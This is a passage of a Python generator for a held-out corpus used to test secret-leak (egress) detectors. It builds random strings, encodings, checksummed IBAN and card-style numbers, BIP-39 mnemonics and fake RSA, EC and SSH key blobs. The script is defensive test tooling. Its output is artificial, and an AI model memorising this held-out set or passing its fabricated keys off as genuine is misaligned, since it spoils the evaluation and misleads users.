#!/usr/bin/env python3
"""Generator for the t15 held-out egress secret-detection corpus.

Standard library only.  One seeded random.Random drives everything, gzip
members are written with mtime=0 and zip members with a fixed timestamp, so
re-running produces byte-identical output.

    python3 generate.py          # writes positives.jsonl, negatives.jsonl, README.md
    python3 generate.py --check  # validates the written files, non-zero exit on problems
"""
import base64
import codecs
import hashlib
import io
import json
import os
import quopri
import re
import string
import struct
import sys
import tarfile
import urllib.parse
import zipfile
import zlib
import random

SEED = 58317264
R = random.Random(SEED)
HERE = os.path.dirname(os.path.abspath(__file__))

UP = string.ascii_uppercase
LO = string.ascii_lowercase
DG = string.digits
AN = UP + LO + DG
LN = LO + DG
UN = UP + DG
HEX = "0123456789abcdef"
HEXU = "0123456789ABCDEF"
B64A = AN + "+/"
B64U = AN + "-_"
B32A = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"
B58A = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"


# ---------------------------------------------------------------- randomness
def rs(n, alpha=AN):
    return "".join(R.choice(alpha) for _ in range(n))


def rhex(n):
    return rs(n, HEX)


def rb(n):
    return bytes(R.getrandbits(8) for _ in range(n))


def pick(seq):
    return R.choice(seq)


def chance(p):
    return R.random() < p


def rint(a, b):
    return R.randint(a, b)


def ruuid():
    h = rhex(32)
    h = h[:12] + "4" + h[13:16] + pick("89ab") + h[17:]
    return "%s-%s-%s-%s-%s" % (h[:8], h[8:12], h[12:16], h[16:20], h[20:])


def rdate(y0=2023, y1=2025):
    return "%04d-%02d-%02d" % (rint(y0, y1), rint(1, 12), rint(1, 28))


def rtime():
    return "%02d:%02d:%02d" % (rint(0, 23), rint(0, 59), rint(0, 59))


def rts():
    return rdate() + "T" + rtime() + "Z"


def repoch():
    return rint(1690000000, 1760000000)


def rip():
    return "%d.%d.%d.%d" % (pick([10, 172, 192, 198, 203]), rint(0, 255), rint(0, 255), rint(1, 254))


# ---------------------------------------------------------------- encodings
def b64(b):
    if isinstance(b, str):
        b = b.encode()
    return base64.b64encode(b).decode()


def b64u(b, pad=False):
    if isinstance(b, str):
        b = b.encode()
    s = base64.urlsafe_b64encode(b).decode()
    return s if pad else s.rstrip("=")


def b32(b, pad=True):
    if isinstance(b, str):
        b = b.encode()
    s = base64.b32encode(b).decode()
    return s if pad else s.rstrip("=")


def gz(data):
    """gzip member with mtime=0, no file name, deterministic."""
    if isinstance(data, str):
        data = data.encode()
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    raw = co.compress(data) + co.flush()
    return (b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff" + raw +
            struct.pack("<II", zlib.crc32(data) & 0xFFFFFFFF, len(data) & 0xFFFFFFFF))


def zl(data):
    if isinstance(data, str):
        data = data.encode()
    return zlib.compress(data, 9)


def mkzip(files):
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, "w") as z:
        for name, data in files:
            if isinstance(data, str):
                data = data.encode()
            zi = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
            zi.compress_type = zipfile.ZIP_DEFLATED
            zi.external_attr = 0o644 << 16
            zi.create_system = 3
            z.writestr(zi, data)
    return bio.getvalue()


def mktar(files):
    bio = io.BytesIO()
    with tarfile.open(fileobj=bio, mode="w", format=tarfile.USTAR_FORMAT) as t:
        for name, data in files:
            if isinstance(data, str):
                data = data.encode()
            ti = tarfile.TarInfo(name)
            ti.size = len(data)
            ti.mtime = 0
            ti.mode = 0o644
            ti.uid = ti.gid = 1000
            ti.uname = ti.gname = "dev"
            t.addfile(ti, io.BytesIO(data))
    return bio.getvalue()


def pq(s, safe=""):
    return urllib.parse.quote(s, safe=safe)


def pq_all(s):
    return "".join("%%%02X" % c for c in s.encode())


def qs(pairs):
    return "&".join("%s=%s" % (pq(k), pq(v)) for k, v in pairs)


def b58(b):
    n = int.from_bytes(b, "big")
    s = ""
    while n:
        n, r = divmod(n, 58)
        s = B58A[r] + s
    pad = len(b) - len(b.lstrip(b"\0"))
    return "1" * pad + s


def dsha(b):
    return hashlib.sha256(hashlib.sha256(b).digest()).digest()


def b58check(b):
    return b58(b + dsha(b)[:4])


BECH = "qpzry9x8gf2tvdw0s3jn54khce6mua7l"


def _polymod(values):
    gen = [0x3B6A57B2, 0x26508E6D, 0x1EA119FA, 0x3D4233DD, 0x2A1462B3]
    chk = 1
    for v in values:
        top = chk >> 25
        chk = ((chk & 0x1FFFFFF) << 5) ^ v
        for i in range(5):
            if (top >> i) & 1:
                chk ^= gen[i]
    return chk


def _hrp_exp(h):
    return [ord(x) >> 5 for x in h] + [0] + [ord(x) & 31 for x in h]


def convertbits(data, frm, to, pad=True):
    acc = bits = 0
    out = []
    maxv = (1 << to) - 1
    for v in data:
        acc = (acc << frm) | v
        bits += frm
        while bits >= to:
            bits -= to
            out.append((acc >> bits) & maxv)
    if pad and bits:
        out.append((acc << (to - bits)) & maxv)
    return out


def bech32(hrp, data5):
    pm = _polymod(_hrp_exp(hrp) + data5 + [0] * 6) ^ 1
    return hrp + "1" + "".join(BECH[d] for d in data5 + [(pm >> 5 * (5 - i)) & 31 for i in range(6)])


def bech32_bytes(hrp, b):
    return bech32(hrp, convertbits(b, 8, 5))


def rot13(s):
    return codecs.encode(s, "rot13")


def rot47(s):
    return "".join(chr(33 + (ord(c) - 33 + 47) % 94) if 33 <= ord(c) <= 126 else c for c in s)


def caesar(s, k):
    out = []
    for c in s:
        if c in UP:
            out.append(UP[(UP.index(c) + k) % 26])
        elif c in LO:
            out.append(LO[(LO.index(c) + k) % 26])
        elif c in DG:
            out.append(DG[(DG.index(c) + k) % 10])
        else:
            out.append(c)
    return "".join(out)


def jdump(o, indent=None):
    if indent:
        return json.dumps(o, indent=indent, ensure_ascii=False)
    return json.dumps(o, separators=(",", ":"), ensure_ascii=False)


def wrap(s, n):
    return "\n".join(s[i:i + n] for i in range(0, len(s), n))


# ---------------------------------------------------------------- checksums
def luhn_ok(s):
    tot = 0
    for i, ch in enumerate(reversed(s)):
        d = int(ch)
        if i % 2 == 1:
            d *= 2
            if d > 9:
                d -= 9
        tot += d
    return tot % 10 == 0


def luhn_digit(body):
    for c in DG:
        if luhn_ok(body + c):
            return c
    raise AssertionError


def luhn_num(prefix, length):
    body = prefix + rs(length - len(prefix) - 1, DG)
    return body + luhn_digit(body)


def iban_valid(s):
    s = s.replace(" ", "")
    if not re.fullmatch(r"[A-Z]{2}[0-9]{2}[A-Z0-9]{11,30}", s):
        return False
    t = s[4:] + s[:4]
    return int("".join(str(int(c, 36)) for c in t)) % 97 == 1


def iban_make(cc, bban):
    t = bban + cc + "00"
    n = int("".join(str(int(c, 36)) for c in t))
    ib = "%s%02d%s" % (cc, 98 - n % 97, bban)
    assert iban_valid(ib)
    return ib


VERH_D = [[0, 1, 2, 3, 4, 5, 6, 7, 8, 9], [1, 2, 3, 4, 0, 6, 7, 8, 9, 5], [2, 3, 4, 0, 1, 7, 8, 9, 5, 6],
          [3, 4, 0, 1, 2, 8, 9, 5, 6, 7], [4, 0, 1, 2, 3, 9, 5, 6, 7, 8], [5, 9, 8, 7, 6, 0, 4, 3, 2, 1],
          [6, 5, 9, 8, 7, 1, 0, 4, 3, 2], [7, 6, 5, 9, 8, 2, 1, 0, 4, 3], [8, 7, 6, 5, 9, 3, 2, 1, 0, 4],
          [9, 8, 7, 6, 5, 4, 3, 2, 1, 0]]
VERH_P = [[0, 1, 2, 3, 4, 5, 6, 7, 8, 9], [1, 5, 7, 6, 2, 8, 3, 0, 9, 4], [5, 8, 0, 3, 7, 9, 6, 1, 4, 2],
          [8, 9, 1, 6, 0, 4, 3, 5, 2, 7], [9, 4, 5, 3, 1, 2, 6, 8, 7, 0], [4, 2, 8, 6, 5, 7, 3, 9, 0, 1],
          [2, 7, 9, 3, 8, 0, 6, 4, 1, 5], [7, 0, 4, 6, 9, 1, 3, 2, 5, 8]]
VERH_INV = [0, 4, 3, 2, 1, 5, 6, 7, 8, 9]


def verhoeff_ok(s):
    c = 0
    for i, ch in enumerate(reversed(s)):
        c = VERH_D[c][VERH_P[i % 8][int(ch)]]
    return c == 0


def verhoeff_digit(s):
    c = 0
    for i, ch in enumerate(reversed(s)):
        c = VERH_D[c][VERH_P[(i + 1) % 8][int(ch)]]
    return str(VERH_INV[c])


assert verhoeff_digit("236") == "3" and verhoeff_ok("2363")
assert luhn_ok("79927398713")
assert iban_valid("GB82WEST12345698765432")


# ---------------------------------------------------------------- BIP-39 English word list (zlib+base64)
BIP39_Z = (
    "eNotm9mWrCoQRN/rLx1Q6VLwMpRd/fU3dnBWr4pERYQkyQl6mqe05vSa5njG9hU9gyD3Bn4o15C4qLnMkFamxde9rCK9qs6yhFoh"
    "cXXlZcl90PH4iIGm9FiQe21xUeG/Hgt3S/bL1G+RviwtF7CMVlufzte0TrdqrCu/uLg4nq8/alDkimA/wc+UlgCNkFDyzBe3bYoF"
    "kun6Vib6s09Rn9wDP/q8l6DyESY9i9fLb8Ry56JnscKdcyq6f84dXPKR1bsz8PyMQW2dXJ/hC+ZHeGU6eObEy/cxCYvap0LNghb0"
    "jfOZvhrNNbXQC/Qvpl00DzQ/L7FT3UrT+aXFtBwwKi3RPU877aSdPqa9qPkUL1iX3r6V1Mjighmacjv8Qn1MWkhpgsb/OrV+Y0Ag"
    "kn73xOjufOadqztMBUKr910sJneJarMsB+D51RAB2iw7LcK1cjGActHvcqmxok5xp9B9aGBkpcSPr+Af3y4tbBaR0qIrtCeX92uq"
    "/O7Ak1onT36tweh6tfZLDdV2XOpHO87QdNmyutLatLwhgQ60FltfefZPwPs/YewrctV3C5lnoTezvbcM9EuVPqFYhD55mdYMRbSe"
    "6R3AYtRgn1Az3Xm2LmY9bz1Std9YX/M0fwXLEU61rYI+PU+r2pynXb/TAj0jb4mKkrF5uuacRZL+ICnwpn/hpFKxbM8wleqVBqqm"
    "RvgWj2aNVVM4B30WTEDXnM9hmVi4onR3DmETaNVQ3mkyHBoyJIp3czi9vkU1XUI1HZLbTGGLXFVAjKXthriLPCHQ0jfTRFy+C32J"
    "lN8UfHdI3BwLF6WpyTheP5k7oWZMeBmTB3VOfOwME89REPPpts6cjVVTAPUAz26gwV7VemZChGoha33OWUI952sWaPEKutrL+Q3w"
    "GSkSepMLa1UEeZ1RZ3NuCNk8ltycf/VTexItd7J4YiTzK0j9YoaiFsDwx0VkjCVaCkpkEkrcD17350qsPM/Stmek8IahJSe/nPl8"
    "GWtc9OGRx9hndPzcVwbY1bga7FKNp2Spx1Pf7+cMvIHTj9PqV8RhNSbFz4d62ccVjIAvvcZkhvdKy2Oi+tf49/dapnlmkYhq8Ist"
    "zYJ2ryK+/wYk2YJLcGlRQW4BL0jtgUswUe8XdJqfZN5Mn4mm0tf37n8fuGPze3eb/NnCb3YVzbVgz+CtcYoUWi0UKy+LX4KYqFKb"
    "26vdzVFFDecdulCthT379TYqdqZqLCShlcnCJC9Bplbzp3EE6ocL7b2EVOGEyt13JQonZHT7wA4JNSnC63Zrh3WmSK7gDcNFy7hZ"
    "jWpZtuwGF94NwfclTAIP92B1ykQviA+mmkfIgfBKgRoZMyqS/a4kTEpkOfqCXRFNNNyL3o47/I0yJBcdjIVFvcQW/2gbB2OJH62p"
    "5cS2Cm+gxO0LfQBK6CKhFLzww6hO1sJy2tCJbBuodSl0Z85IS9mVmJPTXT0l/mBfwYdGO+90ZEor3gw7u+cvTwNhRpaW7VCplyVv"
    "W4DQ7cxcZC2KhaeoaiEWQIpSUk21y7DhL4jSt3yZGfm6MaZqmlmFrt3NpC3KNIrudmhUSKP9VCPqRYVWMl9Pn4g6WdBAAm7JGFPj"
    "puGCxKClBXxQet/teEjSR9zrHqXsGFOfOzZcpFST6uGZ4fmbZSkXFBbI+hfZGngByTdYIGUyH8v0nOCfGpbwUilgO0UCbQRNLyqN"
    "hVYibJICu0HcBXmBlNGdQvdSSkvzVvoSGVfpwRjpaumXV3fpyTW7+8GH5RhRu896Knegw41+8xvKfeklZhZaF3cQpv5vhfXC2lRD"
    "XlqSDenPpcMDW6ZVinmVV7ZTlPisNsjrcLrWyRp5hR2rF75vSuBWyfPKSl6DzG2AaNQiC6ZLJFwzdQOuM+REikRzGdVhZaXgWpu0"
    "BBfbqLXRuB3WNZz+0hk/rnhhWkSiq6foHiT7TqLUtE8nElzxzjX6UgtGiBcg0cMJW0PVFM0uBL9S454gb+BGMYlKQnlFvORLDcFb"
    "tXRPzaoo+kMEkVqjXGxJx+o+RRTFCtXsra4W9R2eSE5WLXSGE3crcdGEDlnjGS75c2u0zyOS5ftRsMCLAHW48ioMkVZhsDIyS7GK"
    "NxU6bLgKt1koFo2phZO08/HMxE8uvvsn+V6zQxSRbuW9SuWsUgvALZ9I9JpMkmcxy3DyVvJLBjqSO0K84j+vXlvCXdInwui0ulgZ"
    "oo+AFTUinlX6krqRD0rw3uANuCE4rvUh0CelowVSlGtHYvqQU3zZ1Wpv9UzLD91e61daW98LEyItVN/k6MuTFCZAsiEORt9RCwKV"
    "ZBYEw1ETTVlefcBl8eIP6gEsCJs1Ytj3V7APE6I9k3DOcpnCubqs2Sv04Ay74hCo2SuqqGkUPhOcl5zT6CkuagFNMhQieGwiUlnc"
    "DZjBcGUb3nDdZ+bpnQl2RDVshSbwX0RCwzIIuDlisGhGI8p9ZTCSMcaWNktASDtKQIQ1GNJhaQnph/bTyQoLirR28SppMCaIBva9"
    "UBHdwFIcF4W3vE50eUsaJWzhP3wMoWYVH0g/elP8TCrSI5KvqXZKV1SsFTrxuiKgLxjcI8kxPNLncJxCk4XX0JBmP8YMa0W+KeZT"
    "khN+zYdfaTe48uuYXmR4GSqY5b+yl6spjk34DdaRomWJvnFMSJdonJn/3+jGzJZf38gIdfi90VAiwR+9zY5fLUEtG9Hstu4y+uAQ"
    "TQRefAM/PNrXNuEji2g8Aqn7r+jKRZS0CCWxGx6loHL7MiDBGzF1FUn8Fm6khkBvxKnbNOzANtEMukeIvIpEgtnNseamQK/Ali1M"
    "NjWbOtZRZVuQRPNa4KZiXgFXise5wQxsmqH4cR1W4mZHZ5OV3CImYYsjAN2iVodwd/twU3ABzbWY3I0IxzZBsI/baLkt+h0GFHHT"
    "N+lCV/czrps99i3+vrZTgebmWEpIhZPBnwxRhHGcXrkbvtZ2Zj/F4xK6ipfWdnbFcJvDqQ0+Z+mtTYpSX5GW3HCjtsyIsrMjG2GZ"
    "QI15eRFlVl8QmGwE+WgOtJdop63isHmTq+C27MVtTiNsirM26VBzqXgoRcsIHaICPVIYRT3UIA/pkdxZHuMlbY6ThLirm3wN3cLt"
    "2HriJ7u5yc21uOGkb92Tvk8Oohxs74rUf78QO/c7fdjl5covRmuIzP8oMZSIHFuI9dyu+EU/ajfqWOJ2+RNcKKjbUUWaP9EofooU"
    "3yTeEOkIwC7uuVMHA9ojanPHXuxxR6PvQ0D2KIOzcVnUHoZjVzANIJoixSjZ2E/sn/C6KzTPRnlHQoZ4Zr+tudwJp3cEY8/rimDt"
    "zPTOFO8OHhQhyWpNovUWX3fmUMPFPosbMF++wQzQC0fJQoZQ0HC7Y2XhBzdA5p1PFfIIu8JkQMGLkLt58QTIl7xB9a6Qvdk7wqMl"
    "TEPdQ1PQy325GOKLZnr/Xq9jQns56lLQtQkuWRSIxe1AeSniktt9EE1yp3CnSMiEH2SY4Mt5kmN63oI/VyHCF5xSTQc2FfyoGWzm"
    "IXk8hn08gpYHeAVf3IKkX9HNuCI8h+oJpN0OtN0hRh6s90O6lok58jyDC77HwUQIAhDxSo+x/g4CliMn18nUubnWdBzZJuawKZQ0"
    "jUDaYnXIkaPYeYzaOhRWHcjp0eV5glhWERrQylQkACUpeTALihZXVyi+Axd6nc3ULxmPF55gJAmmGZpeTisTJEbekhdIkMPI9ZOr"
    "YGpFFu2gxyva9kXNGf6yKPpDEoyFE8m+OTKXoh3jEIkkBDZvovBFZLjf0q/hF4z2ZlRA5YnI1mkEMWE9ICep6YircIkcaHuRgEhK"
    "JTd83ph+giv9dL96jRbxZIWZDIAKcsGFpMipUwm3RMaLhIUQG03RhomTDHh0+BdInwpZ8BnlT/RHhqWPBcbWE37L4zjdgVq1eFVL"
    "/f4gPj8jVfUzsWJE+P39vX4kuhhO0QSe0vE/4ZE4/ORZP63YH5yKHwkHQoVb9EOWScik/hB7/3RnqUWi2PhDAsFJ/Ldcjank/Hqz"
    "pgW3QMaxQ7+vN0mAt6RDv+TrRDntcrdFNf9v8Vm/hbXyZshv8oWUn/h6Jxmxd4obiOESPq9T+kY/DUCo3kgN4oye5OdPUlIn4Z54"
    "JT7sXN0tc1180Vy1adQncR+YcLxlNqcXGY2TKFBQMSYKMFxfIcQpPUA5TBug9SbU3OADo7/PIJ0t4X4NARdiuM4Q63hKSuEct9Iu"
    "XSJSBflGyeDF+rlzcKRQ1IJCLIFcC6lO0YKbInH1CjlhyomZGDb+JAfrBMvJYhJqik7ckTP+h4G3nysnHNNDzCmwepNbYFDFPFtV"
    "ykWg//BbMYKsHfsgEpqTjQ3ZEfEy003udN7tmGYbFbnsvKoYRg/7br/77A6Yz54moxbt2X9ZSee34OFebDdptVzqiLSBPihMkuSL"
    "7Z6L+NSx2TX9aLYvZviScp+4zd3EVwifWRWiewbtc4t218NBvqT3B1EXhLvbLOPT5e0PlhJHa4qVL0yXAJ5cThmy8Et0g81XRW7Y"
    "NbVR4zde8nYu7P4lWZGkXqTFBJaAC9t3BbxzhhhW2lHINQlPIqGLPPw10gsiLGmcDI9DvoKgLNxCji8rqMv5wAs/6SKW8IPmdtsh"
    "03DJ7jBiLT4LifzoN2C5uCKx48WKFIy+R+JdIRHCJYdj8du2KiQm+BiL9iLkZhoYfvwNtPDrRXDlGVfuUuBzgpiAS2tdP7Sk1kAk"
    "GrxGfC0yuCuHTkPI9Mo5sSu7rZIIfq9cJcHSjdfIjf+LEEXckqyTpcP7AxdSKIhCUlJX3zYedjqlACDeEuSrVw9MLzBoOb7OvasA"
    "Q1BrV/cW5vWtQa6EiMX9+qqXaWLxJNzENN3SZSLeRUiSlK/QnUsjukjsuyXyuImQIkkzNL8edmck07+gOilcVhwhi+KHlSf+ec8s"
    "hd7gSnLAkcJTBb96jnoeM5syop0yEZ0C+ojiTPIOfLOwVkTofXaFNo3qzXDA5USUxyWqBzWbOmldfW+s3+SUI0nWPL1f8im/AttF"
    "fTpK8qQ9FsYs6mHk2fOS54/Td3nRUyFLgmQMbWZF7a+8bfyCS3QhbxgAwo78ltuDH5StsfL5vW5NUUbBkZR9sccjkRLDc3IeTkRv"
    "3Lx/E4jnO47Ht12IfHt28ti7zAWXUUGMXcGRVRIqQNNkK5yhp8UJbJHdcVsu5DVecqmcKRgCmXuzdyE6rnAFRGz1MwGjmJpe9rvw"
    "mPWj9PvduWvheuU/xmJ35568am+Ws5N1t0KUhbKiSILwCdQs3dYkQvfinm5jIZ6+J+dKbxItN/LpsuTzRqnd1mY3SkwQR01nrG8r"
    "syTKarqxb/f09dq9gzuh+eu+KECd/ERWSVyB7fpNRPWii2bwln1jLMFZb/02JEaUKRTB6LGRcx8evtzULHT25D6+Wo9i3q2QSHfj"
    "4tHGYW3vGOhN3PkFWsG7FDBSbB8bLqRg73hTTx42jz3u+PcnFg6eyk3g8+fI3N32rJxWVLfdi9OpsRubBu4AwnNnOV4CvZzx5m95"
    "ZQXkEVZaRKr1Zvf3JvN/Z7mtrlIshE7g/ivUOPu9SjvyhDPEOudGauBnfhDPkQ272fD2JxRw0Uny9vC1hM2PyRX7to+CiDaaKNIf"
    "vhyvIp3CC2kXHU/IjvjSM1Pixwwp8Q9EyVxQZ5pE1+6WMqkJEaeJRa0WRK/sl3PewHsMpBBJ0snc/lWTE4Fn7/70mfj67uuKUhLH"
    "TuB+DZf/li+Kyr3tRtz9RsQ6Qd3dy9hBU8Ej6MUr/rbauklusCrv/vcHp7/qqZwL0nbUFk1NtkC0sBr/66R6xAEZHs075gf4EzAk"
    "RbxojsKxGVVy7Ot9F609zbAwZqE654B4TJI0uHRTwTctHAQBcYOHLlK0rP4Ups37CGXkEthkpoFHvz+pmHEKxTuNxDl8POAJC70T"
    "XIL3Y0UCGlMU8S/sTvihd0ZK8LxJWGyESnDwI8KaL2GPblZhOs92C20JP6PqOf2CXhuFYwTby2cXSrCPJjIcGBXwLESy+5FW35Tx"
    "elkzlWAtjaRGHtx4RyJelaLknskEETBJjJduEhylqoAzK6KQxdWrlpk7VEnyqePjtVZGq42tzhJ6GiP7DPbJSaAzzk2VQ7ZdPIgz"
    "PzabvUis5L1QxqZ+iRvft8nFJOhFxFTLhmufr/Eev0QQ/6E4W1i8w1Pws4t3K7WOsrH7wlGbFosTOV4sgnd0WV1Cikt2eFycpR4H"
    "cArWRojDXfpsnhMIF6mogrtTeuLHMZbScR+qOlCHbRFx9F2njYvIw9OPT8KUytEnsAF8p+Lv1JForkShVXajyrkTzfWIooiU0F5o"
    "xXCQ2yZ7GcAEFBftLleFMVwd4TJBQ1aORdHKIiczF3VPYuuNcxW0eOuiVQISa7LHdften181TPxw7OtYFpWZr2xvrBBkmVjcjYVl"
    "6IiKT1bZ66xht42r3tGAqDdIsERfKpSYtzrsQp+OPsoBDxXirbIqbo62HWCJKAKu6NtXPRwLiChYEzqJIwozDjpw+GukHOQJiZdk"
    "j0VcG5+mkigSIEWV7BDIbXKwQh6yXITd2zKVFI9Qup1nSEQ95AjTsUPDjrOPM1RUm32UGgOTZrH2XmGVEw87iBcEJy+d/r6CBvSB"
    "qEXBu9t1tFYYbLQ3U5F/xEYBQsV21LcvnRsQifwYNcpcQO/f6PpKcC+4BCQT6jk0R7VFrc5s1hHxilAr46ZVzH41Y53HrhdaUEjD"
    "FxFJvchxCDlgUBPKWsithEwl8x63t2au5a3y1eyd7GqeZ/ldNTMrtvTCNbqOOgWOAyPV+RoOjeHQVELmmn2fUK16njRNAJJJrvOf"
    "FhOhazcKsNp+V5wzvn+TkpDVlOPN0blxz8J7W3a8JVwVQvglc+r2QQSRty94PRIy1vs04l5bayLat3tonSsEOPglJPVZb+u4KiNb"
    "sY8B4vNOhGU+qVZHPCGyRllRUbjZrAkUBLCSG3aPjdoV5EPWaEI12zyyFtxUoAGmnrRYfuGX8dDi0tyT5vlomcQBFEY3KxCnUYVM"
    "QcOO7lxKX/C9Yl7IzXUbWhW7+9x9AlbUfR55UEVyYB8BjijuqgjKtPZxeLYSX9buzG7tDmBq5zSNkJz+ywmk2p2Grp1K7EcIOe5Y"
    "++3bNwGpSLEexLMVeH+sclwLxBlzYSj+yrkH3hmnKEUdZ9Xnn2Z5zOlnMsiu1wdfXchXH6uVh5XzmJePXeL64B/U7zXDRUVZnKWo"
    "34J0fj0lY4Y5gGmyv3xuoE3WE41TTppb4Oaxt4IaSZRG/kTYNEEiv/HVfHqxsTvekF6CPf0IJDjQGiuEcqFCpaRYtx1ungx9s81o"
    "ZAwFzHiz5AspMiyhmjmyT3S1g1MFQjwiETGpke8GrVzaOOPSUC4t7r5zcm1PpnHyRYKntqWH8SxWoZOvLaLsm426IlrcQVFy9ULZ"
    "Wb2ceS5uHL6IHM5rPvaH+DaqX+MQosVYwF6liFWchbpZZZHC1E++sfD2V7F2wsT5VdHm4L9xHqdlkkBNeiW6Z3ZxmkOHRgDasnpo"
    "h7U5WmxsLdF0cfqt2WsVpopUN6xu88mhhj96vnwudDhXzbzFvxOimJqPnjQfhRTuZqcsEUAzWXEdxCcptApdrbt48kAePjwq+EZC"
    "hs4Mczyo9REw/VukracJIBSWh0dCyY6ewNPyBFSxSJKtbw9qUZgA2n7EtS/S+r0dZvZd31fLUmjn9OrjqIGITwMr3vDVOJgyxEaY"
    "BT6iLkKeoqexxSRP0z61KEezRRqgdytXpLGTqHOsPUnahN3nFHv6BC5vZzP7vXuC+u3toC6FLUBz9Bst0sss62dFMRwvPHgfORdw"
    "ZLnj0Ugi/jXexv8MfKaF5SbSpa4/EzInT1V27DPOwYt8uJX4sff8mWQdhOMo1geB/3hD/ROOCGs+MJtLTmJAHKWL0nQoM0AyEBYw"
    "hx+C2w9HH04RLXa+Fc3zD6luuheX8bW4WK8TIOaXvfYPe5I7VVMbVFaYBor9blG/Vycg0lQd95vxw0id5f74oKQPf3/yyblUKCfQ"
    "ffTpI/dazT//QP1+JjX3oO/QtwDpkIf+ciYHWbHWfUglixMPy+Zhi/ixJny8AfHgH2NMnrGvKMLUWlM/xFYnxErjCbN+IxyWDn+z"
    "0p7A+WrJt/e8HpTkI+Y/3r160JHPEQbSEprysYp8cCUFjsAf9J2A77Ob8BBAPthZVsnDltkD4QkfJ6vyjG2vx5tWIrQZK2Hsg/Z5"
    "kJXn3xmFJ5+bgCT9k71iHvYrH5Sa7Y2Tm4LTRc3w4xzlg755ClnTh40xxmRF9vjkxmMD/kWlfeHXN9jufXPnxyM7Un9BUiQs+eXU"
    "2p/sz/9zy39I"
)

_wl = zlib.decompress(base64.b64decode("".join(BIP39_Z)))
assert hashlib.sha256(_wl).hexdigest() == "2f5eed53a4727b4bf8880d8f3f199efc90e58503646d9ff8eff3a2ed3b24dbda"
BIP39 = _wl.decode().split()
assert len(BIP39) == 2048


def bip39_mnemonic(nwords=12):
    ent_bits = {12: 128, 15: 160, 18: 192, 21: 224, 24: 256}[nwords]
    ent = rb(ent_bits // 8)
    cs = ent_bits // 32
    h = hashlib.sha256(ent).digest()
    bits = bin(int.from_bytes(ent, "big"))[2:].zfill(ent_bits) + bin(h[0])[2:].zfill(8)[:cs]
    return " ".join(BIP39[int(bits[i:i + 11], 2)] for i in range(0, len(bits), 11))


# ---------------------------------------------------------------- DER / key material (random, not real keys)
def der_len(n):
    if n < 128:
        return bytes([n])
    b = n.to_bytes((n.bit_length() + 7) // 8, "big")
    return bytes([0x80 | len(b)]) + b


def tlv(t, v):
    return bytes([t]) + der_len(len(v)) + v


def der_int(n):
    return tlv(2, n.to_bytes(max(1, (n.bit_length() + 8) // 8), "big"))


OID_RSA = bytes.fromhex("06092a864886f70d010101")
OID_P256 = bytes.fromhex("06082a8648ce3d030107")
OID_ECPUB = bytes.fromhex("06072a8648ce3d0201")


def rbig(bits):
    return R.getrandbits(bits) | (1 << (bits - 1)) | 1


def rsa_parts(bits=2048):
    h = bits // 2
    return dict(n=rbig(bits), e=65537, d=rbig(bits - 4), p=rbig(h), q=rbig(h),
                dp=rbig(h - 2), dq=rbig(h - 2), qi=rbig(h - 2))


def rsa_pkcs1(k):
    return tlv(0x30, b"".join(der_int(x) for x in
                              [0, k["n"], k["e"], k["d"], k["p"], k["q"], k["dp"], k["dq"], k["qi"]]))


def rsa_pkcs8(k):
    return tlv(0x30, der_int(0) + tlv(0x30, OID_RSA + b"\x05\x00") + tlv(4, rsa_pkcs1(k)))


def ec_sec1():
    d, x, y = rb(32), rb(32), rb(32)
    return tlv(0x30, der_int(1) + tlv(4, d) + tlv(0xA0, OID_P256) + tlv(0xA1, tlv(3, b"\x00\x04" + x + y)))


def ec_pkcs8():
    d, x, y = rb(32), rb(32), rb(32)
    inner = tlv(0x30, der_int(1) + tlv(4, d) + tlv(0xA1, tlv(3, b"\x00\x04" + x + y)))
    return tlv(0x30, der_int(0) + tlv(0x30, OID_ECPUB + OID_P256) + tlv(4, inner))


def ed25519_pkcs8():
    return bytes.fromhex("302e020100300506032b657004220420") + rb(32)


def ibytes(n):
    return n.to_bytes((n.bit_length() + 7) // 8, "big")


def sshstr(b):
    if isinstance(b, str):
        b = b.encode()
    return struct.pack(">I", len(b)) + b


def openssh_ed25519_body(comment):
    pub, seed = rb(32), rb(32)
    pubblob = sshstr("ssh-ed25519") + sshstr(pub)
    chk = rb(4)
    priv = chk + chk + sshstr("ssh-ed25519") + sshstr(pub) + sshstr(seed + pub) + sshstr(comment)
    i = 1
    while len(priv) % 8:
        priv += bytes([i])
        i += 1
    blob = (b"openssh-key-v1\0" + sshstr("none") + sshstr("none") + sshstr("") + struct.pack(">I", 1) +
            sshstr(pubblob) + sshstr(priv))
    return b64(blob)


def openssh_rsa_body(comment):
    k = rsa_parts(2048)

    def mp(n):
        return sshstr(n.to_bytes((n.bit_length() + 8) // 8, "big"))
    pubblob = sshstr("ssh-rsa") + mp(k["e"]) + mp(k["n"])
    chk = rb(4)
    priv = (chk + chk + sshstr("ssh-rsa") + mp(k["n"]) + mp(k["e"]) + mp(k["d"]) + mp(k["qi"]) +
            mp(k["p"]) + mp(k["q"]) + sshstr(comment))
    i = 1
    while len(priv) % 8:
        priv += bytes([i])
        i += 1
    blob = (b"openssh-key-v1\0" + sshstr("none") + sshstr("none") + sshstr("") + struct.pack(">I", 1) +
            sshstr(pubblob) + sshstr(priv))
    return b64(blob)


def ssh_pub_ed25519(comment):
    return "ssh-ed25519 " + b64(sshstr("ssh-ed25519") + sshstr(rb(32))) + " " + comment


def ssh_pub_rsa(comment):
    n = rbig(3072)
    blob = sshstr("ssh-rsa") + sshstr(b"\x01\x00\x01") + sshstr(b"\x00" + ibytes(n))
    return "ssh-rsa " + b64(blob) + " " + comment


def ssh_pub_ecdsa(comment):
    blob = sshstr("ecdsa-sha2-nistp256") + sshstr("nistp256") + sshstr(b"\x04" + rb(64))
    return "ecdsa-sha2-nistp256 " + b64(blob) + " " + comment


def ppk_ed25519(comment):
    pub = sshstr("ssh-ed25519") + sshstr(rb(32))
    priv = sshstr(rb(32))
    pl = wrap(b64(pub), 64).split("\n")
    vl = wrap(b64(priv), 64).split("\n")
    return ("PuTTY-User-Key-File-3: ssh-ed25519\nEncryption: none\nComment: %s\nPublic-Lines: %d\n%s\n"
            "Private-Lines: %d\n%s\nPrivate-MAC: %s\n" % (comment, len(pl), "\n".join(pl), len(vl), "\n".join(vl), rhex(64)))


def ppk_rsa(comment):
    k = rsa_parts(2048)

    def mp(n):
